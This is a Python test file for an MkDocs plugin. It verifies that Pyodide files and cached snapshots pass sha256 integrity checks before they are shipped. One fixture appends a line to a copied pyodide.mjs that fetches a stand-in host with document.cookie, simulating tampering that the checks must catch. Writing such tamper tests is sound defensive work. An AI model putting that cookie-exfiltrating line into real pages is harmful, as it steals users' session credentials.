"""The Pyodide files and cached memory snapshots are shipped only if they match the sha256
recorded for them (issue 15 item 7): a changed file stops the build with a sentence."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from mkdocs.commands.build import build
from mkdocs.config import load_config
from mkdocs.exceptions import Abort, PluginError

from resolution_guide.browser import assets, pinned

ROOT = Path(__file__).resolve().parents[2]
PYODIDE_DIR = ROOT / "node_modules" / "pyodide"      # this checkout's `npm ci`


@pytest.fixture
def tampered_pyodide(tmp_path):
    folder = tmp_path / "pyodide"
    folder.mkdir()
    for name in assets.PYODIDE_FILES + ("package.json",):
        shutil.copy2(PYODIDE_DIR / name, folder / name)
    with open(folder / "pyodide.mjs", "a", encoding="utf-8") as fh:
        fh.write("\nfetch('https://example.invalid/?'+document.cookie);\n")
    return folder


def test_the_installed_pyodide_matches_the_record():
    assert pinned.mismatches(PYODIDE_DIR, assets.PYODIDE_FILES) == []
    assert set(pinned.recorded()["sha256"]) == set(assets.PYODIDE_FILES)


def test_a_modified_pyodide_file_stops_the_install_with_a_sentence(tmp_path, tampered_pyodide, monkeypatch):
    monkeypatch.setenv("RG_SNAPSHOT", "0")
    with pytest.raises(assets.AssetsError) as err:
        assets.install(tmp_path / "site", pyodide_dir=tampered_pyodide)
    message = str(err.value)
    assert "pyodide.mjs" in message and "npm ci" in message and "pyodide.asm.wasm" not in message


def test_a_modified_pyodide_file_fails_the_mkdocs_build_with_a_plugin_error(tmp_path, tampered_pyodide, monkeypatch,
                                                                           caplog):
    """MkDocs logs a PluginError's sentence and aborts the build."""
    monkeypatch.setenv("RG_SNAPSHOT", "0")
    (tmp_path / "docs").mkdir()
    minimal_content = tmp_path / "content"
    shutil.copytree(ROOT / "tests" / "site" / "fixtures" / "minimal", minimal_content)
    config_file = tmp_path / "mkdocs.yml"
    config_file.write_text(
        "site_name: Tiny\ntheme: mkdocs\nplugins:\n  - resolution-guide:\n"
        f"      content_dir: {minimal_content.name}\n      widgets: true\n      pyodide_dir: {tampered_pyodide}\n")
    errors = []
    config = load_config(str(config_file), site_dir=str(tmp_path / "site"))
    config.plugins.on_build_error = lambda error: errors.append(error)
    with pytest.raises(Abort):
        build(config)
    assert [type(e) for e in errors] == [PluginError]
    assert "the sha256 of pyodide.mjs differs from the one in pyodide-files.json" in caplog.text
    assert not (tmp_path / "site" / "index.html").exists()


def test_a_fake_cached_snapshot_is_refused_and_a_real_one_is_reused(tmp_path, monkeypatch):
    monkeypatch.setenv("RG_SNAPSHOT", "1")
    monkeypatch.setattr(assets.shutil, "which", lambda name: "/bin/true")
    made = []

    def stand_in(node, pyodide_dir, wheel_file, target):
        made.append(1)
        target.write_bytes(b"the real snapshot")
        return {"build_seconds": 0.0}
    monkeypatch.setattr(assets, "_run_snapshot_script", stand_in)
    pyodide_dir = tmp_path / "pyodide"
    assets.copy_pyodide(PYODIDE_DIR, pyodide_dir)
    engine = tmp_path / "engine.whl"
    engine.write_bytes(b"wheel")
    cache = tmp_path / "cache"
    assert assets.make_snapshot(pyodide_dir, engine, cache)["reused"] is False
    assert assets.make_snapshot(pyodide_dir, engine, cache)["reused"] is True and len(made) == 1

    [cached] = cache.glob("*.bin.gz")
    cached.write_bytes(b"a fake snapshot")
    (pyodide_dir / assets.SNAPSHOT_FILE).unlink()
    with pytest.raises(assets.AssetsError, match="does not match the sha256 recorded beside it") as err:
        assets.make_snapshot(pyodide_dir, engine, cache)
    assert str(cache) in str(err.value) and not (pyodide_dir / assets.SNAPSHOT_FILE).exists()
